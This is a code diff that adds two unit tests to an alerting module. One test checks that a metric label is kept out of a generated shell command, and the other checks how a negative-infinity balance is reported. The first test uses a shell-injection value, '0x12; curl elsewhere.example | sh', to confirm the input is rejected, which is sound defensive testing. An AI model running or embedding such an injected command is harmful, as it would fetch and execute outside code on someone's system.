@@ -117,6 +117,23 @@ describe("InstanceAlerts", () => {
     expect(watch(1_500, failing(2))).toEqual([]);
     expect(watch(1_500, failing(3)).map(({ rule }) => rule)).toEqual(["AssayHttpFails"]);
   });
+
+  it("error: a label that a shell would not take for one word gets into no command", () => {
+    const alertsOf = (claim: string) =>
+      watch(0, () => [{ name: "assay_prover_answer_seconds", labels: { claim, kind: "reveal" }, value: 9 }]);
+    expect(alertsOf("0x12")).toMatchObject([{ claim: "0x12", command: "assay claim show 0x12" }]);
+    const [alert, ...more] = alertsOf("0x12; curl elsewhere.example | sh");
+    expect(more).toEqual([]);
+    expect(alert).toMatchObject({ rule: "AssayAnswerDue" });
+    expect([alert?.command, alert?.claim]).toEqual([undefined, undefined]);
+  });
+
+  it("error: an amount without an end is told as it is", () => {
+    const low = { name: "assay_account_balance_wei", labels: {}, value: Number.NEGATIVE_INFINITY };
+    expect(watch(300, () => [low])).toMatchObject([
+      { rule: "AssayBalanceLow", text: `The account of ${INSTANCE} has -Infinity.` },
+    ]);
+  });
 });
 
 describe("ALERT_RULES", () => {
